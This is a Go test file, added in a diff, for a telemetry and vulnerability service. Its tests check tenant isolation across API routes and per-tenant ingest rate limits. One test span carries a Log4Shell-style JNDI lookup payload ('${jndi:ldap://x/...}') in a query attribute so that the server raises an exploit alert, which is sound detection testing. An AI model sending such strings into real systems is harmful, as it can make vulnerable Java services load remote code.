@@ -1,0 +1,242 @@
+package cli
+
+import (
+	"bytes"
+	"io"
+	"log/slog"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"go.opentelemetry.io/otel/attribute"
+	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
+	"go.opentelemetry.io/otel/sdk/resource"
+	sdktrace "go.opentelemetry.io/otel/sdk/trace"
+	"go.opentelemetry.io/otel/sdk/trace/tracetest"
+	"go.opentelemetry.io/otel/trace"
+)
+
+// sendTenantSpans exports, as the OTel SDK does with headers configured,
+// a public request to service carrying a JNDI payload (an exploit alert).
+func sendTenantSpans(t *testing.T, addr, token, orgID, service string) error {
+	t.Helper()
+	headers := map[string]string{"Authorization": "Bearer " + token}
+	if orgID != "" {
+		headers["X-Scope-OrgID"] = orgID
+	}
+	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(addr), otlptracehttp.WithInsecure(),
+		otlptracehttp.WithHeaders(headers), otlptracehttp.WithRetry(otlptracehttp.RetryConfig{Enabled: false}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec := tracetest.NewSpanRecorder()
+	tp := sdktrace.NewTracerProvider(sdktrace.WithSpanProcessor(rec),
+		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", service))))
+	_, span := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
+		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
+			attribute.String("url.path", "/search"), attribute.String("url.query", "q=${jndi:ldap://x/"+service+"}"),
+			attribute.String("client.address", "198.51.100.7")))
+	span.End()
+	defer exp.Shutdown(t.Context())
+	return exp.ExportSpans(t.Context(), rec.Ended())
+}
+
+// getAs returns the status and body of a GET with token and an optional
+// X-Scope-OrgID.
+func getAs(t *testing.T, url, token, orgID string) (int, string) {
+	t.Helper()
+	req, err := http.NewRequestWithContext(t.Context(), "GET", url, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if token != "" {
+		req.Header.Set("Authorization", "Bearer "+token)
+	}
+	if orgID != "" {
+		req.Header.Set("X-Scope-OrgID", orgID)
+	}
+	if strings.HasSuffix(url, "/stream") {
+		return http.StatusOK, "" // a stream does not end; its tenant is the alerts route's
+	}
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+// TestServeTenantIsolation is the test that tries: two tenants send
+// telemetry (with exploit payloads, so alerts too) and findings of
+// services named after them; then every GET route of the API, called
+// with tenant A's token, and with an all-tenants token picking A, must
+// not show a name of B's, and A's token naming B in X-Scope-OrgID is
+// refused on the API and on ingest.
+func TestServeTenantIsolation(t *testing.T) {
+	data := t.TempDir()
+	mk := func(name, role, tenant string) string {
+		args := []string{"--data", data, "token", "create", "--name", name, "--role", role}
+		if tenant != "" {
+			args = append(args, "--tenant", tenant)
+		}
+		code, out, stderr := run(t, args...)
+		if code != ExitOK || !strings.HasPrefix(out, "evd_") {
+			t.Fatalf("token create = %d %q %s", code, out, stderr)
+		}
+		return strings.TrimSpace(out)
+	}
+	tokA, tokB, ops := mk("team-a", "admin", "team-a"), mk("team-b", "admin", "team-b"), mk("ops", "admin", "")
+
+	cfg := serveTestConfig(t)
+	cfg.Serve.Auth.RequireOnLoopback = true
+	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
+	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}},
+		slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer shutdown(t, srv)
+	api, otlpAddr := srv.apiURL(), srv.otlp.HTTPAddr()
+
+	if err := sendTenantSpans(t, otlpAddr, tokA, "", "alpha-svc"); err != nil {
+		t.Fatalf("tenant A's spans: %v", err)
+	}
+	if err := sendTenantSpans(t, otlpAddr, tokB, "", "bravo-svc"); err != nil {
+		t.Fatalf("tenant B's spans: %v", err)
+	}
+	// Tenant A's token cannot put spans into B.
+	if err := sendTenantSpans(t, otlpAddr, tokA, "team-b", "alpha-into-bravo"); err == nil || !strings.Contains(err.Error(), "403") {
+		t.Errorf("tenant A's spans with X-Scope-OrgID team-b = %v, want 403", err)
+	}
+	report, err := os.ReadFile(filepath.Join("testdata", "serve", "checkout.govulncheck.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, u := range []struct{ token, service string }{{tokA, "alpha-svc"}, {tokB, "bravo-svc"}} {
+		if got := request(t, "POST", api+"/api/v1/findings?service="+u.service, u.token, "application/json", report); got != http.StatusOK {
+			t.Fatalf("upload of %s = %d, want 200", u.service, got)
+		}
+	}
+	waitFor(t, "both tenants' services and alerts", func() bool {
+		_, a := getAs(t, api+"/api/v1/alerts", tokA, "")
+		_, b := getAs(t, api+"/api/v1/alerts", tokB, "")
+		_, sa := getAs(t, api+"/api/v1/services", tokA, "")
+		_, sb := getAs(t, api+"/api/v1/services", tokB, "")
+		return strings.Contains(a, "alpha-svc") && strings.Contains(b, "bravo-svc") &&
+			strings.Contains(sa, "alpha-svc") && strings.Contains(sb, "bravo-svc")
+	})
+
+	routes := []string{
+		"/api/v1/services", "/api/v1/services/bravo-svc", "/api/v1/services/alpha-svc", "/api/v1/graph", "/api/v1/inventory",
+		"/api/v1/findings", "/api/v1/findings?service=bravo-svc", "/api/v1/findings/GO-2024-2958",
+		"/api/v1/summary", "/api/v1/report", "/api/v1/export/openvex", "/api/v1/export/sarif", "/api/v1/export/cyclonedx",
+		"/api/v1/alerts", "/api/v1/alerts?service=bravo-svc", "/api/v1/alerts/stream", "/api/v1/vulndb",
+		"/api/v1/waf/patches", "/api/v1/waf/patches/bravo-svc", "/api/v1/audit", "/metrics",
+	}
+	for _, c := range []struct {
+		name, token, orgID string
+	}{{"A's token", tokA, ""}, {"A's token naming A", tokA, "team-a"}, {"ops token picking A", ops, "team-a"}} {
+		for _, route := range routes {
+			if c.token == ops && (route == "/api/v1/audit" || route == "/metrics") {
+				continue // the deployment's, for a token of every tenant
+			}
+			status, body := getAs(t, api+route, c.token, c.orgID)
+			if strings.Contains(route, "bravo-svc") && !strings.Contains(route, "?") {
+				// The answer may echo the name asked for, nothing else.
+				body = strings.ReplaceAll(body, `\"bravo-svc\"`, "")
+				if status != http.StatusNotFound {
+					t.Errorf("%s: GET %s = %d, want 404", c.name, route, status)
+				}
+			}
+			if strings.Contains(body, "bravo") || strings.Contains(body, "team-b") {
+				t.Errorf("%s: GET %s = %d shows tenant B's data:\n%.300s", c.name, route, status, body)
+			}
+		}
+	}
+	// What a tenant-bound token may not see at all.
+	for _, route := range []string{"/api/v1/audit", "/metrics"} {
+		if status, _ := getAs(t, api+route, tokA, ""); status != http.StatusForbidden {
+			t.Errorf("GET %s with A's token = %d, want 403 (it shows every tenant's)", route, status)
+		}
+	}
+	// A's token naming B: refused on every route, before anything is read.
+	for _, route := range routes {
+		if strings.HasSuffix(route, "/stream") {
+			continue
+		}
+		if status, body := getAs(t, api+route, tokA, "team-b"); status != http.StatusForbidden || strings.Contains(body, "bravo-svc") {
+			t.Errorf("GET %s with A's token and X-Scope-OrgID team-b = %d %.200s, want 403", route, status, body)
+		}
+	}
+	if got := request(t, "POST", api+"/api/v1/findings?service=bravo-svc", tokA, "application/json", report); got != http.StatusOK {
+		t.Errorf("tenant A's upload for a service named like B's = %d, want 200 (into A)", got)
+	}
+	req, _ := http.NewRequestWithContext(t.Context(), "POST", api+"/api/v1/findings?service=bravo-svc", bytes.NewReader(report))
+	req.Header.Set("Authorization", "Bearer "+tokA)
+	req.Header.Set("X-Scope-OrgID", "team-b")
+	req.Header.Set("Content-Type", "application/json")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("tenant A's upload into team-b = %d, want 403", resp.StatusCode)
+	}
+	// B still sees its own, and the ops token picking B sees B's.
+	if _, body := getAs(t, api+"/api/v1/services", ops, "team-b"); !strings.Contains(body, "bravo-svc") || strings.Contains(body, "alpha") {
+		t.Errorf("ops token picking team-b: services %.300s, want bravo-svc only", body)
+	}
+	// The default tenant has neither.
+	if _, body := getAs(t, api+"/api/v1/services", ops, ""); strings.Contains(body, "bravo") || strings.Contains(body, "alpha") {
+		t.Errorf("default tenant: services %.300s, want neither tenant's", body)
+	}
+}
+
+// TestServeTenantIngestLimit sends OTLP/HTTP JSON as anonymous loopback
+// clients of two tenants with a rate of one span a minute: the second
+// batch of a tenant is 429 with Retry-After, the other tenant's bucket is
+// its own, and the refusal is counted per tenant.
+func TestServeTenantIngestLimit(t *testing.T) {
+	cfg := serveTestConfig(t)
+	cfg.Serve.Tenants.IngestRate, cfg.Serve.Tenants.IngestBurst = 1.0/60, 1
+	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: t.TempDir()}
+	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}},
+		slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer shutdown(t, srv)
+	body := []byte(`{"resourceSpans":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"shop"}}]},
+		"scopeSpans":[{"spans":[{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"eee19b7ec3c1b174","name":"GET /",
+		"kind":2,"startTimeUnixNano":"1700000000000000000","endTimeUnixNano":"1700000000100000000"}]}]}]}`)
+	post := func(orgID string) *http.Response {
+		req, _ := http.NewRequestWithContext(t.Context(), "POST", "http://"+srv.otlp.HTTPAddr()+"/v1/traces", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-Scope-OrgID", orgID)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		return resp
+	}
+	if resp := post("team-a"); resp.StatusCode != http.StatusOK {
+		t.Fatalf("team-a's first span = %d, want 200", resp.StatusCode)
+	}
+	resp := post("team-a")
+	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
+		t.Errorf("team-a's second span = %d, Retry-After %q; want 429 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"))
+	}
+	if resp := post("team-b"); resp.StatusCode != http.StatusOK {
+		t.Errorf("team-b's first span = %d, want 200: its bucket is its own", resp.StatusCode)
+	}
+	_, metrics := getAs(t, srv.apiURL()+"/metrics", "", "")
+	if !strings.Contains(metrics, `evident_tenant_ingest_refused_records_total{tenant="team-a"} 1`) {
+		t.Errorf("metrics lack team-a's refused span:\n%s", metrics)
+	}
+}
